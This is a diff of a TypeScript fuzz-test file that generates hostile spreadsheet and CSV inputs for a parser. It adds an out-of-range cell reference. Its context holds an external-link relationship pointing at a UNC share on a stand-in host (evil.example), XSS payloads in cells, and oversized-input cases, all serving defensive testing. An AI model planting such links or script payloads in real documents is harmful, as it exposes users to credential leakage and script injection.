@@ -198,6 +198,7 @@ export function hostileFiles(): FuzzCase[] {
      ['xl/externalLinks/_rels/externalLink1.xml.rels', Buffer.from('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil.example\\share\\x.xlsx" TargetMode="External"/></Relationships>')]],
     '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'));
   add('absurd-dimension', 'dimension.xlsx', xlsxOf(SHEET(HEADER_ROW + '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>角落</t></is></c></row>', 'A1:XFD1048576')));
+  add('cell-past-excel-columns', 'wide.xlsx', xlsxOf(SHEET(HEADER_ROW + '<row r="2"><c r="CZZZZ2" t="inlineStr"><is><t>远处</t></is></c></row>', 'A1:C2')));
   add('script-in-cells', 'script.xlsx', xlsxOf(SHEET(HEADER_ROW + ORDER_ROW(2, '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;'), 'A1:C2')));
   add('csv-one-huge-line', 'line.csv', Buffer.from('工单编号,受理时间,诉求内容\nHL1,2024-03-01 08:00:00,' + 'x'.repeat(40 * 1024 * 1024)));
   add('csv-100k-columns', 'wide.csv', Buffer.from('工单编号,受理时间\n' + ','.repeat(100_000) + '\n'));
